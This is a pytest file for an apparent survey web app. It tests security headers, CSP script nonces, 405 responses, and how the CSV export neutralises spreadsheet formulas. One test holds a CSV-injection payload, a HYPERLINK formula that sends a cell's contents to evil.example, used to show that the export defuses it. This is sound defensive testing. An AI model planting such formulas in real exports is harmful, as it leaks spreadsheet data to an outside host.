"""Response headers, 405 answers and CSV exports as an attacker or a spreadsheet would see them."""
from __future__ import annotations

import csv
import io
import re

from survey_helpers import ADMIN_PASSWORD, csrf_from, human_session


def test_every_page_carries_the_security_headers_and_scripts_run_only_by_nonce(client):
    for path in ("/", "/stimuli/" + "0" * 64 + ".png", "/admin/login"):
        r = client.get(path)
        assert r.headers["X-Content-Type-Options"] == "nosniff" and r.headers["X-Frame-Options"] == "DENY"
        assert r.headers["Referrer-Policy"] == "no-referrer"
        csp = dict(part.strip().split(" ", 1) for part in r.headers["Content-Security-Policy"].split(";"))
        assert "'unsafe-inline'" not in csp["script-src"] and csp["frame-ancestors"] == "'none'"
    page = client.get("/")
    nonce = re.search(r"'nonce-([^']+)'", page.headers["Content-Security-Policy"]).group(1)
    inline = re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>", page.text)
    assert inline and all(f'nonce="{nonce}"' in attrs for attrs in inline)
    assert nonce not in client.get("/").headers["Content-Security-Policy"]       # a fresh nonce per response


def test_a_wrong_method_gets_405_with_allow(client):
    r = client.put("/consent")
    assert r.status_code == 405 and "POST" in r.headers["Allow"]
    r = client.delete("/api/sessions")
    assert r.status_code == 405 and r.headers["Allow"] and r.is_json


def test_a_formula_in_a_prolific_id_is_neutralised_in_the_csv_export(app, client):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    human_session(client, PROLIFIC_PID=evil, STUDY_ID="s1", SESSION_ID="x1")
    admin = app.test_client()
    token = csrf_from(admin.get("/admin/login").text)
    assert admin.post("/admin/login", data={"csrf_token": token, "password": ADMIN_PASSWORD}).status_code == 302
    rows = list(csv.DictReader(io.StringIO(admin.get("/admin/export/participants.csv").text)))
    ids = [row["external_id"] for row in rows if row["external_id"]]
    assert ids == ["'" + evil]
    parquet = admin.get("/admin/export/participants.parquet")
    import pandas as pd
    assert evil in set(pd.read_parquet(io.BytesIO(parquet.data))["external_id"])     # the data itself unchanged
